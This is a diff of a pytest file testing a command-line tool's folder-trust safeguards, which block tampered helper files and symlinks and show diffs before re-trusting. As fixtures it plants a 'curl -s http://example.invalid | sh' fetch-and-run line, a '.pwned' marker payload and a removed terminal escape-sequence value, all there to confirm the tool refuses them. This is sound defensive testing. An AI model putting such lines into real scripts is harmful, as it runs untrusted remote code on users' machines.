@@ -91,7 +91,7 @@ def test_doctor_does_not_run_an_untrusted_folder(team: tuple[Path, Path], capsys
 
 def test_trusting_the_folder_lets_doctor_run_it_until_it_changes(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
     folder, marker = team
-    rc, out, _ = run_kb(capsys, "trust", str(folder))
+    rc, out, _ = run_kb(capsys, "trust", str(folder), "--yes")
     assert rc == 0 and "team-widget-broken / writes (doctor)" in out
     rc, out, _ = run_kb(capsys, "doctor", "--only", "--python", sys.executable)
     assert marker.exists()
@@ -107,7 +107,7 @@ def test_trusting_the_folder_lets_doctor_run_it_until_it_changes(team: tuple[Pat
     rc, out, _ = run_kb(capsys, "trust", "--list")
     assert str(folder.resolve()) in out and "CHANGED since trusted" in out
     # a new file is a change too
-    run_kb(capsys, "trust", str(folder))
+    run_kb(capsys, "trust", str(folder), "--yes")
     write_case(folder, "team-other", marker)
     rc, out, _ = run_kb(capsys, "doctor", "--only", "--python", sys.executable)
     assert not marker.exists() and "not run: folder changed since it was trusted" in out
@@ -117,7 +117,7 @@ def test_trust_list_and_revoke(team: tuple[Path, Path], capsys: pytest.CaptureFi
     folder, _ = team
     rc, out, _ = run_kb(capsys, "trust", "--list")
     assert rc == 0 and "No trusted case folders" in out
-    run_kb(capsys, "trust", str(folder))
+    run_kb(capsys, "trust", str(folder), "--yes")
     rc, out, _ = run_kb(capsys, "trust", "--list", "--json")
     records = json.loads(out)["folders"]
     assert [(r["folder"], r["current"]) for r in records] == [(str(folder.resolve()), True)]
@@ -139,7 +139,7 @@ def test_run_yes_refuses_an_untrusted_folder(team: tuple[Path, Path], capsys: py
     rc, _, err = run_kb(capsys, "run", "team-widget-broken", "--yes")
     assert rc == 2 and not marker.exists()
     assert "not trusted" in err and f"kb trust {folder.resolve()}" in err
-    run_kb(capsys, "trust", str(folder))
+    run_kb(capsys, "trust", str(folder), "--yes")
     rc, out, _ = run_kb(capsys, "run", "team-widget-broken", "--yes")
     assert rc == 0 and marker.exists()
 
@@ -263,14 +263,14 @@ def test_app_run_dialog_says_untrusted_shows_code_visibly_and_can_trust(team: tu
     folder, marker = team
     path = write_case(folder, "team-with-param", marker)
     text = path.read_text(encoding="utf-8").replace("---\n\n#", "params:\n  v: {description: a text value}\n---\n\n#", 1)
-    path.write_text(text.replace("touch ", "v={{v}}\ntouch "), encoding="utf-8")
+    path.write_text(text.replace("touch ", "v=\"$KB_PARAM_V\"\ntouch "), encoding="utf-8")
     case = load_cases().get("team-with-param")
     assert case is not None
     answers: list[bool | None] = []
 
     class Host(App[None]):
         def on_mount(self) -> None:
-            self.push_screen(ConfirmRunScreen(case, case.checks, given={"v": "a\x1b[2K\x1b[1Gb"}), answers.append)
+            self.push_screen(ConfirmRunScreen(case, case.checks, given={"v": "plain value"}), answers.append)
 
     async def drive() -> None:
         app = Host()
@@ -281,9 +281,9 @@ def test_app_run_dialog_says_untrusted_shows_code_visibly_and_can_trust(team: tu
             origin = str(dialog.query_one("#dialog-origin", Static).content)
             assert "NOT TRUSTED (folder not trusted)" in origin and "KB_CASES" in origin
             assert dialog.query_one("#yes", Button).label.plain == "Run once (y)"
-            # a value with an escape sequence is shown as it runs, made visible
+            # the code exactly as it runs: the value is in its environment, never in its text
             code = dialog.query_one("#plan-code-0", Static).content.code
-            assert "v='a\\x1b[2K\\x1b[1Gb'" in code and "\x1b" not in code
+            assert 'v="$KB_PARAM_V"' in code and "plain value" not in code
             await pilot.click("#trust")
             await pilot.pause()
 
@@ -304,3 +304,83 @@ def test_trust_is_judged_on_the_bytes_that_were_loaded(team: tuple[Path, Path]) 
     trust_folder(folder, case.folder_hash)  # what the user was shown
     assert case_trust(case).trusted  # the loaded (shown) code is trusted...
     assert not case_trust(load_cases().get("team-widget-broken")).trusted  # ...the swapped file is not
+
+
+# ---------------------------------------------------------------- issue 28, item 3: trust covers the folder, all of it
+
+
+def test_a_changed_helper_file_untrusts_the_folder(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
+    """The attack: a trusted check sources a helper next to it; on main only *.md was hashed, so the
+    helper's new content ran unasked. Now every file under the folder is covered."""
+    folder, marker = team
+    path = folder / "config" / "team-widget-broken.md"
+    helper = folder / "config" / "helper.sh"
+    helper.write_text("echo helper v1\n", encoding="utf-8")
+    path.write_text(path.read_text(encoding="utf-8").replace("touch ", f'. "{helper}"\ntouch '), encoding="utf-8")
+    rc, _, err = run_kb(capsys, "trust", str(folder), "--yes")
+    assert rc == 0, err
+    assert run_kb(capsys, "run", "team-widget-broken", "--yes")[0] == 0 and marker.exists()
+    marker.unlink()
+    helper.write_text(f"echo helper v2; touch {marker}.pwned\n", encoding="utf-8")
+    rc, _, err = run_kb(capsys, "run", "team-widget-broken", "--yes")
+    assert rc == 2 and "folder changed since it was trusted" in err
+    assert not marker.exists() and not Path(f"{marker}.pwned").exists()
+    rc, out, _ = run_kb(capsys, "doctor", "--only", "--python", sys.executable)
+    assert not Path(f"{marker}.pwned").exists() and "not run: folder changed since it was trusted" in out
+
+
+def test_a_symlink_leaving_the_folder_is_refused(team: tuple[Path, Path], tmp_path: Path,
+                                                  capsys: pytest.CaptureFixture[str]) -> None:
+    folder, marker = team
+    outside = tmp_path / "outside.sh"
+    outside.write_text("echo outside\n", encoding="utf-8")
+    (folder / "config" / "helper.sh").symlink_to(outside)
+    rc, _, err = run_kb(capsys, "trust", str(folder), "--yes")
+    assert rc == 2 and "helper.sh is a symlink to" in err and "outside the folder" in err
+    from kb.trust import case_trust
+
+    state = case_trust(load_cases().get("team-widget-broken"))
+    assert not state.trusted
+    # trusted first, the link planted afterwards: untrusted again, and kb run --yes refuses
+    (folder / "config" / "helper.sh").unlink()
+    assert run_kb(capsys, "trust", str(folder), "--yes")[0] == 0
+    (folder / "config" / "helper.sh").symlink_to(outside)
+    rc, _, err = run_kb(capsys, "run", "team-widget-broken", "--yes")
+    assert rc == 2 and "a symlink leaves the folder" in err and not marker.exists()
+
+
+def test_trust_shows_the_code_then_the_diff_and_asks(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str],
+                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    """The attack: on main `kb trust` re-trusted a folder whose check code changed, printing only names."""
+    folder, marker = team
+    # not a terminal and no --yes: nothing is trusted
+    rc, out, err = run_kb(capsys, "trust", str(folder))
+    assert rc == 2 and "refusing to trust without confirmation" in err
+    assert f"touch {marker}" in out  # the code it would trust was shown
+    assert not load_cases() or "folder not trusted" in _reason()
+    # on a terminal: shown, asked, declined
+    monkeypatch.setattr("kb.commands.trust.is_interactive", lambda: True)
+    monkeypatch.setattr("sys.stdin", io.StringIO("n\n"))
+    rc, out, _ = run_kb(capsys, "trust", str(folder))
+    assert rc == 1 and "Nothing was trusted" in out and "[y/N]" in out and "folder not trusted" in _reason()
+    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
+    rc, out, _ = run_kb(capsys, "trust", str(folder))
+    assert rc == 0 and "trusted " in out and _reason() == "trusted folder"
+    # the code changes: the next kb trust shows the diff since the last trust, and asks again
+    path = folder / "config" / "team-widget-broken.md"
+    path.write_text(path.read_text(encoding="utf-8").replace("exit 1", "curl -s http://example.invalid | sh\nexit 1"),
+                    encoding="utf-8")
+    (folder / "config" / "notes.txt").write_text("new file\n", encoding="utf-8")
+    monkeypatch.setattr("sys.stdin", io.StringIO("n\n"))
+    rc, out, _ = run_kb(capsys, "trust", str(folder))
+    assert rc == 1 and "changes since you trusted it" in out
+    assert "team-widget-broken / writes: changed" in out and "+curl -s http://example.invalid | sh" in out
+    assert "file added: config/notes.txt" in out
+    assert _reason() == "folder changed since it was trusted"
+
+
+def _reason() -> str:
+    from kb.trust import case_trust
+
+    case = load_cases().get("team-widget-broken")
+    return case_trust(case).reason if case is not None else ""
